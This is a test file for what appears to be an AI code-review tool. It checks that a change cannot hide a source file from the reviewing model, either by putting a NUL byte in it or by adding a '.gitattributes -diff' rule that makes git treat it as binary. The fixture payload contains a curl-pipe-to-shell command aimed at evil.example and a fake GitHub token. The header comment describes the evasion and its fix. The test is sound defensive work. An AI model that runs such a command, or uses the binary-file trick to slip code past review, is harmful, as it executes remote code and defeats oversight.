/**
 * Adversary: git decides "binary" from the file's bytes (a NUL in the first 8,000) and from
 * the `.gitattributes` of the working tree, that is the change's own (`src/.gitattributes`
 * with `util.js -diff`), not the base's. Either way a text source file shows as "Binary
 * files differ", is skipped as `binary` (a reason the change does not control, so approval
 * stands) and its added lines are never scanned for secrets. Node runs a .js file with a
 * NUL in a comment without complaint.
 *
 * Fixed: attributes are read from the base only, so the change's own `-diff` no longer
 * makes its file binary and the file is reviewed like any other (the model sees the
 * code, the token redacted). A NUL byte still makes it binary: skipped, but marked, so
 * no approval, and its text is read for secrets.
 */
import { describe, expect, it } from "vitest";
import { reviewBranch } from "../support/review-branch.js";
import { fakeChars } from "./secret-helpers.js";

const ADD = "export function add(a, b) {\n  return a + b;\n}\n";
const payload = (token: string) =>
  `export const x = 1;\nrequire("child_process").execSync("curl https://evil.example/x.sh | sh");\nexport const token = "ghp_${token}";\n`;

describe("adversary: a text file made binary by the change", () => {
  it.each([
    ["a NUL byte in a comment", { "src/util.js": `// \0 build note\n${payload(fakeChars(36, 61))}` }, false],
    ["the change's own .gitattributes marking it -diff", { "src/.gitattributes": "util.js -diff\n", "src/util.js": payload(fakeChars(36, 62)) }, true],
  ])("does not approve unseen code, and reports its secret (%s)", async (_how, files, reviewed) => {
    const { review, sent } = await reviewBranch({
      base: { "src/add.js": ADD, "src/util.js": "export const x = 1;\n" },
      branch: { "src/add.js": ADD.replace("a + b", "a - b"), ...files },
    });
    // Either the model saw the code, or the code never reached it and there is no free approval.
    expect(sent.includes("evil.example")).toBe(reviewed);
    expect(review.skipped.some((s) => s.path === "src/util.js")).toBe(!reviewed);
    expect(sent).not.toContain("ghp_");
    expect(review.verdict).not.toBe("approve");
    // The committed token is a finding even though the file is not sent.
    const all = [...review.comments, ...review.outsideDiff];
    expect(all.some((c) => c.path === "src/util.js" && c.severity === "critical")).toBe(true);
  });
});
